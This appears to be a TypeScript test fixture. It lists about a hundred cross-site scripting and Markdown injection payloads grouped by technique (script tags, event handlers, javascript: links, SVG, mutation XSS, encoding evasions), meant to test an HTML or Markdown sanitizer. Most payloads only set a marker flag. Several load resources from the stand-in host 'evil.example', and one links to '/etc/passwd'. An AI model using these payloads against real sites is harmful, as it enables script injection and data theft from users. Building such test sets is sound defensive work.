// Texts that an attacker might write into an article, a query or a URL to run a script in a reader's browser. They follow cheat
// sheets for cross-site scripting (XSS), with additions for Markdown. A text that runs sets `ran` on the window.

export interface HostileText {
  kind: string;
  text: string;
}

const run = 'top.ran=1';
const image = `<img src=x onerror=${run}>`;
const of = (kind: string, texts: readonly string[]): HostileText[] => texts.map((text) => ({ kind, text }));

const scripts = of('script', [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT >`,
  `<scr<script>ipt>${run}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `</script><script>${run}</script>`,
  `</textarea></style></noscript><script>${run}</script>`,
  `<!--<script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `<script>${run}//`,
]);

const handlers = of('handler', [
  image,
  `<img src=x onerror=${run} `,
  `<img src=x onerror=&#116;op.ran=1>`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<xss tabindex=1 autofocus onfocus=${run}>tea</xss>`,
  `<details open ontoggle=${run}><summary>tea</summary></details>`,
  `<video><source onerror=${run}></video>`,
  `<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationend=${run}>tea</b>`,
  `<link rel=stylesheet href=x onerror=${run}>`,
  `<a href="#" onclick=${run}>tea</a>`,
]);

const addresses = of('address', [
  `[tea](javascript:${run})`,
  `[tea](JaVaScRiPt:${run})`,
  `[tea](java&#115;cript:${run})`,
  `[tea](&#x6A;avascript&#58;${run})`,
  `[tea](javascript&colon;${run})`,
  `[tea](java&Tab;script:${run})`,
  `[tea](java&NewLine;script:${run})`,
  `[tea](<java\tscript:${run}>)`,
  `[tea](&#1;javascript:${run})`,
  `[tea](javascript://%0A${run})`,
  '[tea](vbscript:msgbox)',
  `[tea](data:text/html,<script>${run}</script>)`,
  '[tea](data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=)',
  '[tea](file:///etc/passwd)',
  `<javascript:${run}>`,
  `<data:text/html,${run}>`,
  `[tea][cup]\n\n[cup]: javascript:${run}`,
  `javascript:${run}`,
  `<a href="javascript:${run}">tea</a>`,
  `<a href=javascript&#58;${run}>tea</a>`,
  `<form><button formaction=javascript:${run}>tea</button></form>`,
  `<iframe src=javascript:${run}></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
]);

const elements = of('element', [
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${run}</script>">`,
  '<base href=//evil.example/>',
  `<style>@import '//evil.example/x.css';</style>`,
  '<p style="background:url(//evil.example/x)">tea</p>',
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<template><script>${run}</script></template>`,
  `<div><template shadowrootmode=open>${image}</template></div>`,
  `<![CDATA[${image}]]>`,
  `<!--> ${image} -->`,
  `<!-- --!> ${image} -->`,
  `<?xml version="1.0"?>${image}`,
  `<% ${image} %>`,
]);

const drawings = of('drawing', [
  `<svg onload=${run}></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"></script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=9>tea</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><foreignObject>${image}</foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"></use></svg>`,
  `<math href="javascript:${run}">tea</math>`,
  `<math><annotation-xml encoding="text/html">${image}</annotation-xml></math>`,
]);

/** Texts that a browser may parse differently from a sanitizer (mutation XSS). */
const mutations = of('mutation', [
  `<noscript><p title="</noscript>${image}">`,
  `<svg></p><style><a id="</style>${image}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<select><template><style><!--</style><a rel="--></style></template></select>${image}">`,
  `<xmp><p title="</xmp>${image}">`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<b <script>${run}</script>`,
]);

const attributes = of('attribute', [
  `" autofocus onfocus="${run}`,
  `' autofocus onfocus='${run}`,
  `"><script>${run}</script>`,
  `"/>${image}<a b="`,
  `x" style="background:url(//evil.example/x)`,
  `\`onmouseover=${run}`,
]);

const encodings = of('encoding', [
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#x3c;script&#x3e;${run}&#x3c;/script&#x3e;`,
  `&amp;lt;script&amp;gt;${run}`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `＜script＞${run}＜/script＞`,
  `<ſcript>${run}</ſcript>`,
  `<script\u2028>${run}</script>`,
  `<img src=x onerror\u00a0=${run}>`,
  `\u202e<script>${run}</script>`,
  `<scr\u200bipt>${run}</script>`,
  `<scr\u0000ipt>${run}</script>`,
  `\u0000results\u0000${image}`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
]);

const markdown = of('markdown', [
  `![" onerror="${run}](x)`,
  `![tea](x" onerror="${run})`,
  `![tea](<x" onerror="${run}">)`,
  `![tea](x 'a" onerror="${run}')`,
  `![tea](javascript:${run})`,
  `![tea](data:image/svg+xml,<svg/onload=${run}>)`,
  '![tea](https://evil.example/pixel.png)',
  '![tea](//evil.example/pixel.png)',
  `[tea](/ 'a" autofocus onfocus="${run}')`,
  `[tea](/"onmouseover="${run})`,
  `[${image}](/)`,
  `<https://evil.example/"onmouseover="${run}>`,
  `www.evil.example/"onmouseover="${run}`,
  `\`\`\`"><script>${run}</script>\n${image}\n\`\`\``,
  `~~~js" onload="${run}\n</code></pre>${image}\n~~~`,
  `    </code></pre>${image}`,
  `\`</code>${image}\``,
  `tea[^1]\n\n[^1]: ${image}`,
  `tea[^"><script>]\n\n[^"><script>]: [tea](javascript:${run})`,
  `| ${image} | tea |\n| --- | --- |\n| <script>${run}</script> | [tea](javascript:${run}) |`,
  `<div>\n\n**tea** ${image}\n\n</div>\n\n<script>\n\n${run}\n\n</script>`,
  `- [x] ${image}\n- [ ] [tea](javascript:${run})`,
  `tea  \n${image}\\\n<svg onload=${run}>`,
  `$\\href{javascript:${run}}{tea}$ {{constructor.constructor('${run}')()}}`,
]);

export const hostileTexts: readonly HostileText[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...elements,
  ...drawings,
  ...mutations,
  ...attributes,
  ...encodings,
  ...markdown,
];
